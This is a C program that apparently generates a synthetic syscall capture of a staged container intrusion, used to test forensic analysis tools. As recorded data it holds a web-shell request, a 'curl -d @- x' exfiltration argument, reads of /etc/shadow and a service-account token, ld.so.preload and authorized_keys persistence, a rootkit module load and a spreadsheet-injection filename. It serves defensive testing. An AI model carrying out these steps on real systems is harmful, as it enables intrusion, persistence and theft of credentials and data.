/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Makes the capture that the forensic chisels are tested with.
 *
 * On the host "web01" the containers "web" and "db" run already, and alice is logged in. Through a
 * request from outside, web runs a shell: it reads a token, goes on to db, and runs what it drops,
 * as a script, from memory, as a library. db runs a command and calls home. On the host alice
 * becomes root, settles, sends files away and starts the container "job" through the runtime.
 */
#include "capture_events.h"

#define ID(digits) digits digits digits digits digits digits digits digits
#define WEB	   ID("0a1b2c3d")
#define DB	   ID("d0d1d2d3")
#define JOB	   ID("5e6f7a8b")
#define HOSTG	   "cpuset=/\0memory=/system.slice/ssh.service"
#define WEBG	   "cpuset=/docker/" WEB
#define DBG	   "cpuset=/docker/" DB
#define JOBG	   "cpuset=/docker/" JOB

#define CREATE	    (SCAP_O_WRONLY | SCAP_O_CREAT | SCAP_O_TRUNC)
#define LOWER	    SCAP_EXE_LOWER_LAYER
#define STRANGE	    "/tmp/=cmd|' /C calc'!A0,\"x\"\n\377\033[2J"
#define CAP_NET_RAW (1ull << 13)

/* ---- the cast ---- */

static const struct proc nginx = PROC(500, 1, 100, "nginx", "nginx", "/usr/sbin/nginx",
				      L("-g\0daemon off;"), WEBG, 33, LOWER, 21);
static const struct proc shell = PROC(510, 8, 500, "sh", "sh", "/bin/sh", L("-c\0id; sh"), WEBG, 33,
				      LOWER, 22);
static const struct proc script = PROC(511, 9, 510, "sh", "sh", "/bin/sh", L("/tmp/run.sh"), WEBG,
				       33, LOWER, 22);
static const struct proc in_memory = PROC(512, 10, 510, "3", "x", "memfd:x", L("-q"), WEBG, 33,
					  SCAP_EXE_FROM_MEMFD, 901);
static const struct proc python = PROC(513, 11, 510, "python3", "python3", "/usr/bin/python3",
				       L("-c\0import evil"), WEBG, 33, LOWER, 23);
static const struct proc strange = PROC(514, 12, 510, "=cmd", STRANGE, STRANGE, L("-f\0a,b"), WEBG,
					33, SCAP_EXE_UPPER_LAYER | SCAP_EXE_WRITABLE, 902);
static const struct proc tool = PROC(515, 13, 510, "tool", "/data/tool", "/data/tool", L(""), WEBG,
				     33, 0, 903);
static const struct proc postgres = PROC(400, 1, 100, "postgres", "postgres", "/usr/bin/postgres",
					 L("-D\0/var/lib/db"), DBG, 70, LOWER, 31);
static const struct proc command = PROC(410, 30, 400, "sh", "sh", "/bin/sh", L("-c\0curl -d @- x"),
					DBG, 70, LOWER, 32);
static const struct proc bash = PROC(210, 210, 200, "bash", "-bash", "/bin/bash", L(""), HOSTG,
				     1000, 0, 41);
static const struct proc sudo = PROC(211, 211, 210, "sudo", "sudo", "/usr/bin/sudo", L("-s"), HOSTG,
				     0, 0, 42);
static const struct proc ping = PROC(212, 212, 210, "ping", "ping", "/usr/bin/ping", L("db"), HOSTG,
				     1000, 0, 43);
static const struct proc dockerd = PROC(150, 150, 1, "dockerd", "dockerd", "/usr/bin/dockerd",
					L(""), HOSTG, 0, 0, 51);
static const struct proc runc = PROC(151, 151, 150, "runc", "runc", "/usr/bin/runc", L("create"),
				     HOSTG, 0, 0, 52);
static const struct proc job = PROC(152, 1, 151, "job", "/job", "/job", L("--all"), JOBG, 0, LOWER,
				    53);

#define CONTAINER(id, name, image)                                                                \
	"{\"container\":{\"id\":\"" id "\",\"full_id\":\"\",\"type\":0,\"name\":\"" name "\","    \
	"\"image\":\"" image "\",\"imagerepo\":\"" image "\",\"imagetag\":\"\",\"imageid\":\"\"," \
	"\"imagedigest\":\"\",\"privileged\":false,\"is_pod_sandbox\":false,\"lookup_state\":1,"  \
	"\"created_time\":1699990000,\"ip\":\"\",\"labels\":{}}}"

/* ---- what they do ---- */

static void reads(int64_t pid, const char *path, int64_t fd, int64_t n)
{
	opens(pid, fd, path, SCAP_O_RDONLY, 0);
	EV(SYSCALL_READ_X, (uint64_t)pid, N(n), B("some of it"), N(fd), N(4096));
	closes(pid, fd);
}

static void writes(int64_t pid, int64_t fd, struct value data)
{
	EV(SYSCALL_WRITE_X, (uint64_t)pid, N(data.len), data, N(fd), N(data.len));
}

static void connects(int64_t pid, struct value tuple)
{
	const char *t = tuple.ptr;
	char addr[7] = { t[0] };

	memcpy(addr + 1, t + 7, 6);
	EV(SOCKET_SOCKET_X, (uint64_t)pid, N(3), N(2), N(1), N(6));
	EV(SOCKET_CONNECT_X, (uint64_t)pid, N(0), tuple, N(3),
	   ((struct value){ addr, sizeof(addr), 0 }));
}

static void accepts(int64_t pid, int64_t fd, struct value tuple)
{
	EV(SOCKET_ACCEPT4_6_X, (uint64_t)pid, N(fd), tuple, N(0), N(0), N(128), N(0));
}

static void sends(int64_t pid, int64_t n, struct value data)
{
	EV(SOCKET_SENDTO_X, (uint64_t)pid, N(n), data, N(3), N(n), EMPTY);
}

/* Through a request from outside: a shell, which looks around. */
static void break_in(void)
{
	/* 203.0.113.9:40000 -> 172.17.0.2:80 */
	accepts(500, 5, B("\2\313\0\161\11\100\234\254\21\0\2\120\0"));
	EV(SYSCALL_READ_X, 500, N(44), B("POST /?cmd=sh"), N(5), N(4096));
	forks(&nginx, &shell);
	runs(&shell);
	reads(510, "/var/run/secrets/kubernetes.io/serviceaccount/token", 4, 900);
	EV(SYSCALL_OPENAT_2_X, 510, N(-13), N(-100), S("/proc/400/environ"), N(SCAP_O_RDONLY), N(0),
	   N(0), N(0));
	/* 172.17.0.2:40001 -> 169.254.169.254:80 */
	connects(510, B("\2\254\21\0\2\101\234\251\376\251\376\120\0"));
	sends(510, 60, B("GET /latest/meta-data/ HTTP/1.0"));
	closes(510, 3);
}

/* The same two writes as `printf '#!/bin/sh\n'; printf 'id\n'`, the second by a copy of the
 * descriptor. */
static void drop(void)
{
	opens(510, 5, "/tmp/.a", CREATE, 900);
	writes(510, 5, B("#!/bin/sh\n"));
	EV(SYSCALL_DUP2_X, 510, N(1), N(5), N(1));
	writes(510, 1, B("id\n"));
	closes(510, 5);
	closes(510, 1);
	EV(SYSCALL_RENAME_X, 510, N(0), S("/tmp/.a"), S("/tmp/run.sh"));
	EV(SYSCALL_FCHMODAT_X, 510, N(0), N(-100), S("/tmp/run.sh"), N(0755));
	forks(&shell, &script);
	runs(&script);
	ends(511, 0, 0);
	EV(SYSCALL_MEMFD_CREATE_X, 510, N(6), S("x"), N(1));
	writes(510, 6, B("\177ELF, or so"));
	forks(&shell, &in_memory);
	runs(&in_memory);
	ends(512, 0, 0);
	opens(510, 7, "/usr/lib/evil.so", CREATE, 904);
	EV(SYSCALL_WRITE_X, 510, N(5000), B("\177ELF"), N(7), N(5000));
	closes(510, 7);
	forks(&shell, &python);
	runs(&python);
	opens(513, 3, "/usr/lib/evil.so", SCAP_O_RDONLY, 904);
	EV(SYSCALL_MMAP_X, 513, N(4096), N(0), N(0), N(0), N(0), N(4096),
	   N(SCAP_PROT_READ | SCAP_PROT_EXEC), N(SCAP_MAP_PRIVATE), N(3), N(0));
	ends(513, 0, 11);
	opens(510, 7, STRANGE, CREATE, 902);
	writes(510, 7, B("one"));
	loss = (struct scap_loss){ .buffer = 9, .from = clock_ns, .to = clock_ns + MS };
	closes(510, 7);
	forks(&shell, &strange);
	runs(&strange);
	ends(514, 1, 0);
	forks(&shell, &tool);
	runs(&tool);
	ends(515, 0, 0);
}

/* From web into db, which runs a command that calls home. */
static void go_on(void)
{
	/* 172.17.0.2:50001 -> 172.17.0.3:22, not waited for, and refused */
	static const char to_ssh[] = "\2\254\21\0\2\121\303\254\21\0\3\26\0";
	/* 172.17.0.2:50000 -> 172.17.0.3:5432 */
	static const char to_db[] = "\2\254\21\0\2\120\303\254\21\0\3\70\25";

	EV(SOCKET_SOCKET_X, 510, N(4), N(2), N(1), N(6));
	EV(SOCKET_CONNECT_X, 510, N(-115), B(to_ssh), N(4), B("\2\254\21\0\3\26\0"));
	EV(SOCKET_GETSOCKOPT_X, 510, N(0), N(4), N(1), N(4),
	   B("\1\221\377\377\377\377\377\377\377"), N(4));
	closes(510, 4);
	connects(510, B(to_db));
	on_cpu = 1;
	accepts(400, 9, B(to_db));
	EV(SOCKET_RECVFROM_X, 400, N(40), B("copy t to program"), EMPTY, N(9), N(8192));
	EV(SYSCALL_PIPE_X, 400, N(0), N(10), N(11), N(77));
	forks(&postgres, &command);
	EV(SYSCALL_DUP2_X, 410, N(0), N(10), N(0));
	runs(&command);
	/* 172.17.0.3:50100 -> 198.51.100.7:443 */
	connects(410, B("\2\254\21\0\3\264\303\306\63\144\7\273\1"));
	EV(SYSCALL_READ_X, 410, N(7000), B("rows"), N(0), N(8192));
	sends(410, 7000, B("rows"));
	ends(410, 0, 0);
	closes(400, 9);
	on_cpu = 0;
	closes(510, 3);
	ends(510, 0, 0);
}

static void become_root(void)
{
	struct proc capable = ping;

	capable.caps = CAP_NET_RAW;
	forks(&bash, &sudo);
	runs(&sudo);
	forks(&bash, &ping);
	runs(&capable);
	EV(SYSCALL_PTRACE_X, 211, N(0), EMPTY, EMPTY, N(SCAP_PTRACE_ATTACH), N(212));
	EV(SYSCALL_KILL_X, 211, N(0), N(212), N(11));
	EV(PROCEXIT_1_E, 212, N(139), N(0), N(11), N(1), N(0));
}

static void settle(void)
{
	opens(211, 3, "/etc/ld.so.preload", CREATE, 910);
	writes(211, 3, B("/usr/lib/evil.so\n"));
	closes(211, 3);
	opens(211, 3, "/home/alice/.ssh/authorized_keys", SCAP_O_WRONLY | SCAP_O_APPEND, 911);
	writes(211, 3, B("ssh-ed25519 AAAA\n"));
	closes(211, 3);
	EV(SYSCALL_SYMLINKAT_X, 211, N(0), S("/opt/x.service"), N(-100),
	   S("/etc/systemd/system/multi-user.target.wants/x.service"));
	EV(SYSCALL_CHMOD_X, 211, N(0), S("/tmp/rootsh"), N(04755));
	opens(211, 3, "/tmp/rk.ko", SCAP_O_RDONLY, 912);
	EV(SYSCALL_FINIT_MODULE_X, 211, N(0), N(3), S(""), N(0));
	closes(211, 3);
	EV(SYSCALL_MOUNT_X, 211, N(0), S("/dev/vdb"), S("/mnt"), S("ext4"), N(0));
	EV(SYSCALL_UNSHARE_X, 211, N(0), N(SCAP_CLONE_NEWNS));
}

static void send_away(void)
{
	reads(211, "/etc/shadow", 4, 1200);
	/* 192.0.2.10:40100 -> 198.51.100.9:8443 */
	connects(211, B("\2\300\0\2\12\244\234\306\63\144\11\373\40"));
	sends(211, 1000, B("root:$y$"));
	opens(211, 4, "/root/db.dump", SCAP_O_RDONLY, 913);
	EV(SYSCALL_SENDFILE_X, 211, N(500), N(0), N(3), N(4), N(500));
	closes(211, 4);
	EV(SOCKET_RECVFROM_X, 211, N(2), B("ok"), EMPTY, N(3), N(512));
	closes(211, 3);
}

/* A container through the runtime's socket; it asks for the metadata of the cloud by name. */
static void start_job(void)
{
	static const char pair[] = "\1\0\300\0\0\0\0\377\377\0\300\1\0\0\0\377\377/run/docker.sock";
	/* 172.17.0.4:40200 -> 172.17.0.1:53 */
	static const char dns[] = "\2\254\21\0\4\10\235\254\21\0\1\65\0";

	EV(SOCKET_SOCKET_X, 211, N(3), N(1), N(1), N(0));
	EV(SOCKET_CONNECT_X, 211, N(0), L(pair), N(3), L("\1/run/docker.sock"));
	accepts(150, 8, L(pair));
	forks(&dockerd, &runc);
	runs(&runc);
	forks(&runc, &job);
	runs(&job);
	EV(CONTAINER_JSON_2_E, (uint64_t)-1, S(CONTAINER("5e6f7a8b5e6f", "job", "jobs:3")));
	EV(SOCKET_SOCKET_X, 152, N(3), N(2), N(2), N(17));
	EV(SOCKET_CONNECT_X, 152, N(0), B(dns), N(3), B("\2\254\21\0\1\65\0"));
	sends(152, 42, B("\1\2\1\0\0\1\0\0\0\0\0\0\10metadata\6google\10internal\0\0\1\0\1"));
	ends(152, 3, 0);
	ends(151, 0, 0);
	ends(211, 0, 0);
}

/* ---- other ways to make a file, by the process 210, each run at the end ---- */

static void makes(const char *path)
{
	opens(210, 5, path, CREATE, 0);
}

static void writes_at(uint64_t pos, struct value data)
{
	EV(SYSCALL_PWRITE_X, 210, N(data.len), data, N(5), N(data.len), N(pos));
}

static void executes(const struct proc *parent, const char *path, uint64_t ino)
{
	static int64_t pid = 300;
	struct proc p = *parent;

	p.pid = pid;
	p.vpid = parent->vpid == parent->pid ? pid : pid + 100;
	p.ptid = parent->pid;
	p.comm = p.exe = p.exepath = path;
	p.ino = ino;
	pid++;
	forks(parent, &p);
	runs(&p);
	ends(p.pid, 0, 0);
}

/* Their content is abc, whatever way it went. */
static void write_known(void)
{
	makes("/tmp/at_places");
	writes_at(0, B("ab"));
	writes_at(2, B("c"));
	makes("/tmp/appended");
	writes(210, 5, B("ab"));
	closes(210, 5);
	opens(210, 5, "/tmp/appended", SCAP_O_WRONLY | SCAP_O_APPEND, 0);
	writes(210, 5, B("c"));
	makes("/tmp/emptied");
	writes(210, 5, B("before"));
	closes(210, 5);
	makes("/tmp/emptied");
	writes(210, 5, B("abc"));
	makes("/tmp/target");
	writes(210, 5, B("abc"));
	EV(SYSCALL_LINK_2_X, 210, N(0), S("/tmp/target"), S("/tmp/linked"));
	makes("/tmp/replaced");
	writes(210, 5, B("before"));
	makes("/tmp/replacing");
	writes(210, 5, B("abc"));
	EV(SYSCALL_RENAME_X, 210, N(0), S("/tmp/replacing"), S("/tmp/replaced"));
	opens(210, 5, "/var/lib/docker/web/merged/opt/agent", CREATE, 960);
	writes(210, 5, B("abc"));
	makes("/tmp/appended_by_copy");
	writes(210, 5, B("ab"));
	opens(210, 6, "/tmp/appended_by_copy", SCAP_O_WRONLY | SCAP_O_APPEND, 0);
	EV(SYSCALL_DUP2_X, 210, N(1), N(6), N(1));
	writes(210, 1, B("c"));
}

static void write_unknown(void)
{
	makes("/tmp/reopened");
	writes(210, 5, B("ab"));
	closes(210, 5);
	opens(210, 5, "/tmp/reopened", SCAP_O_WRONLY, 0);
	writes(210, 5, B("c"));
	makes("/tmp/sought");
	writes(210, 5, B("ab"));
	EV(SYSCALL_LSEEK_X, 210, N(0), N(5), N(0), N(0));
	writes(210, 5, B("c"));
	makes("/tmp/with_hole");
	writes_at(7, B("abc"));
	makes("/tmp/both_ways");
	writes_at(0, B("ab"));
	writes(210, 5, B("c"));
	makes("/tmp/copied");
	opens(210, 6, "/bin/true", SCAP_O_RDONLY, 0);
	EV(SYSCALL_COPY_FILE_RANGE_X, 210, N(100), N(5), N(0), N(6), N(0), N(100));
	makes("/tmp/mapped");
	writes(210, 5, B("abc"));
	EV(SYSCALL_MMAP_X, 210, N(4096), N(0), N(0), N(0), N(0), N(4096), N(SCAP_PROT_WRITE),
	   N(SCAP_MAP_SHARED), N(5), N(0));
	opens(210, 5, "/tmp/there_before", SCAP_O_WRONLY | SCAP_O_APPEND, 0);
	writes(210, 5, B("abc"));
	makes("/tmp/two_descriptors");
	writes(210, 5, B("ab"));
	opens(210, 7, "/tmp/two_descriptors", CREATE, 0);
	writes(210, 7, B("xy"));
	writes(210, 5, B("c"));
	makes("/tmp/old_copy");
	EV(SYSCALL_DUP2_X, 210, N(1), N(5), N(1));
	opens(210, 7, "/tmp/old_copy", SCAP_O_WRONLY | SCAP_O_APPEND, 0);
	writes(210, 7, B("ab"));
	writes(210, 1, B("c"));
	makes("/tmp/moved_to_and_fro");
	writes(210, 5, B("abc"));
	EV(SYSCALL_LSEEK_X, 210, N(0), N(5), N(0), N(0));
	EV(SYSCALL_LSEEK_X, 210, N(3), N(5), N(3), N(0));
	writes(210, 5, B("d"));
	makes("/tmp/unlinked");
	writes(210, 5, B("abc"));
	EV(SYSCALL_UNLINK_2_X, 210, N(0), S("/tmp/unlinked"));
	EV(SYSCALL_MEMFD_CREATE_X, 210, N(8), S("twice"), N(0));
	writes(210, 8, B("abc"));
	EV(SYSCALL_MEMFD_CREATE_X, 210, N(9), S("twice"), N(0));
	writes(210, 9, B("xyz"));
	makes("/tmp/cloned");
	writes(210, 5, B("abc"));
	EV(SYSCALL_IOCTL_3_X, 210, N(0), N(5), N(0x40049409), N(6));
	makes("/mnt/below/covered");
	writes(210, 5, B("abc"));
	EV(SYSCALL_MOUNT_X, 210, N(0), S("/dev/vdb"), S("/mnt"), S("ext4"), N(0));
	EV(SYSCALL_MEMFD_CREATE_X, 210, N(8), S("copy"), N(0));
	writes(210, 8, B("abc"));
	EV(SYSCALL_SENDFILE_X, 210, N(100), N(0), N(8), N(6), N(100));
	makes("/tmp/never_written");
	makes("/tmp/made_shorter");
	writes(210, 5, B("abcd"));
}

static void drop_otherwise(void)
{
	static const char *const paths[] = {
		"/tmp/at_places",     "/tmp/appended",
		"/tmp/emptied",	      "/tmp/linked",
		"/tmp/replaced",      "/tmp/reopened",
		"/tmp/sought",	      "/tmp/with_hole",
		"/tmp/both_ways",     "/tmp/copied",
		"/tmp/mapped",	      "/tmp/there_before",
		"/tmp/never_written", "/tmp/two_descriptors",
		"/tmp/mounted_over",  "/tmp/appended_by_copy",
		"/tmp/old_copy",      "/tmp/moved_to_and_fro",
		"/tmp/unlinked",      "/tmp/unlinked (deleted)",
		"memfd:twice",	      "memfd:copy",
		"/tmp/cloned",	      "/mnt/below/covered",
	};
	size_t i;

	makes("/tmp/mounted_over");
	writes(210, 5, B("abc"));
	EV(SYSCALL_MOUNT_X, 210, N(0), S("/usr/bin/true"), S("/tmp/mounted_over"), S(""), N(4096));
	write_known();
	write_unknown();
	/* the others are what the process writes to, too, but have run already */
	for (i = 0; i < sizeof(paths) / sizeof(paths[0]); i++)
		executes(&bash, paths[i], 0);
	executes(&bash, "/tmp/appended", 0);
	opens(210, 5, "/tmp/appended", SCAP_O_WRONLY | SCAP_O_APPEND, 0);
	writes(210, 5, B("d"));
	executes(&bash, "/tmp/appended", 0);
	executes(&nginx, "/opt/agent", 960);
	executes(&nginx, "/opt/another", 960);
	EV(GENERIC_X, 210, N(58), N(77)); /* ftruncate */
	executes(&bash, "/tmp/made_shorter", 0);
}

/* ---- the machine when it began ---- */

static struct scap_fd db_fds[] = {
	{ .fd = 3,
	  .ino = 71,
	  .type = SCAP_FD_IPV4_SERVSOCK,
	  .l4proto = SCAP_L4_TCP,
	  .sport = 5432,
	  .name = "" },
};

static void add_thread(struct scap_thread *t, const struct proc *p)
{
	*t = (struct scap_thread){
		.tid = (uint64_t)p->pid,
		.pid = (uint64_t)p->pid,
		.ptid = (uint64_t)p->ptid,
		.vtid = p->vpid,
		.vpid = p->vpid,
		.sid = (uint64_t)p->pid,
		.pgid = p->pid,
		.comm = p->comm,
		.exe = p->exe,
		.exepath = p->exepath,
		.args = { p->args.ptr, p->args.len },
		.cgroups = { p->cgroups.ptr, p->cgroups.len },
		.uid = p->uid,
		.gid = p->uid,
		.loginuid = UINT32_MAX,
		.cwd = "/",
		.root = "/",
		.fdlimit = 1024,
	};
}

static struct scap_user users[] = {
	{ 0, 0, "root", "/root", "/bin/bash" },
	{ 1000, 1000, "alice", "/home/alice", "/bin/bash" },
};

int main(int argc, char **argv)
{
	static const struct proc init = PROC(1, 1, 0, "systemd", "/sbin/init", "/sbin/init", L(""),
					     HOSTG, 0, 0, 1);
	static const struct proc shim = PROC(100, 100, 1, "containerd-shim", "containerd-shim",
					     "/usr/bin/containerd-shim", L(""), HOSTG, 0, 0, 11);
	static const struct proc sshd = PROC(200, 200, 1, "sshd", "sshd: alice", "/usr/sbin/sshd",
					     L(""), HOSTG, 0, 0, 12);
	const struct proc *const there[] = {
		&init, &shim, &dockerd, &sshd, &bash, &postgres, &nginx
	};
	struct scap_writer_options plain = { .compression = SCAP_PLAIN, .schema = SCHEMA(4, 5, 1) };
	struct scap_thread threads[sizeof(there) / sizeof(there[0])];
	struct scap_snapshot snap = {
		.machine = { .num_cpus = 2,
			     .boot_time = START - 3600000 * MS,
			     .hostname = "web01" },
		.threads = threads,
		.n_threads = sizeof(threads) / sizeof(threads[0]),
		.users = users,
		.n_users = sizeof(users) / sizeof(users[0]),
	};
	struct scap_error err = { 0 };
	size_t i;

	if (argc != 2 && !(argc == 3 && strcmp(argv[2], "files") == 0))
		die("usage: make_intrusion FILE [files]");
	for (i = 0; i < sizeof(there) / sizeof(there[0]); i++) {
		add_thread(&threads[i], there[i]);
		if (there[i] == &postgres) {
			threads[i].fds = db_fds;
			threads[i].n_fds = sizeof(db_fds) / sizeof(db_fds[0]);
		}
	}
	writer = scap_writer_open(argv[1], &plain, &snap, &err);
	if (!writer)
		die(err.msg);
	EV(CONTAINER_JSON_2_E, (uint64_t)-1, S(CONTAINER("0a1b2c3d0a1b", "web", "shop/web:1.2")));
	EV(CONTAINER_JSON_2_E, (uint64_t)-1, S(CONTAINER("d0d1d2d3d0d1", "db", "postgres:15")));
	if (argc == 3) {
		drop_otherwise();
	} else {
		break_in();
		drop();
		go_on();
		become_root();
		settle();
		send_away();
		start_job();
	}
	if (scap_writer_close(writer, &err) < 0)
		die(err.msg);
	return 0;
}
